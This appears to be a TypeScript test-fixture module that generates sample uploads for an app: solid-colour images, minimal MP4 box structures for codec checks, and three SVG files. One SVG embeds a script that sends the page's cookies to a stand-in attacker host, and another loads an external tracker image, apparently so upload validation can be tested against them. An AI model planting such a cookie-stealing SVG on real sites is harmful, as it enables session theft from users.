import sharp from 'sharp';

/** A picture of `width` x `height`, in one colour, encoded as `format`: a real file a gabbai could upload. */
export async function picture(width: number, height: number, format: 'png' | 'jpeg' | 'webp' | 'avif', colour = '#1e64c8'): Promise<Buffer> {
  const canvas = sharp({ create: { width, height, channels: 3, background: colour } });
  return canvas[format]().toBuffer();
}

/** An ISO box: size, type, payload. */
function box(type: string, ...payload: Buffer[]): Buffer {
  const body = Buffer.concat(payload);
  const head = Buffer.alloc(8);
  head.writeUInt32BE(8 + body.length, 0);
  head.write(type, 4, 'latin1');
  return Buffer.concat([head, body]);
}

/** A movie header (mvhd v0) saying `durationMs` at timescale 1000. */
function mvhd(durationMs: number): Buffer {
  const body = Buffer.alloc(100);
  body.writeUInt32BE(1000, 12);
  body.writeUInt32BE(durationMs, 16);
  return box('mvhd', body);
}

/**
 * The boxes of an MP4 whose video track is `codec` (avc1: H.264, hvc1: HEVC): what the cloud reads
 * to accept or refuse one. Not playable: the device tests play a real WebM made by Chromium.
 */
export function mp4Boxes(codec: 'avc1' | 'hvc1', options: { withIndex?: boolean } = {}): Buffer {
  const ftyp = box('ftyp', Buffer.from('isom'), Buffer.alloc(4), Buffer.from('isomiso2mp41'));
  const sampleEntry = box(codec, Buffer.alloc(78));
  const moov = box('moov', mvhd(4200), box('trak', box('mdia', box('minf', box('stbl', box('stsd', Buffer.alloc(8), sampleEntry))))));
  return Buffer.concat([ftyp, ...(options.withIndex === false ? [] : [moov]), box('mdat', Buffer.alloc(512))]);
}

export const PLAIN_SVG = Buffer.from(
  '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="200" height="100" viewBox="0 0 200 100"><rect width="200" height="100" fill="#234"/><circle cx="50" cy="50" r="40" fill="url(#g)"/><defs><linearGradient id="g"><stop offset="0" stop-color="gold"/></linearGradient></defs></svg>',
);
export const SCRIPTED_SVG = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>fetch("https://evil.example/"+document.cookie)</script></svg>',
);
export const LEAKY_SVG = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10"><image xlink:href="https://tracker.example/p.png" width="10" height="10"/></svg>',
);
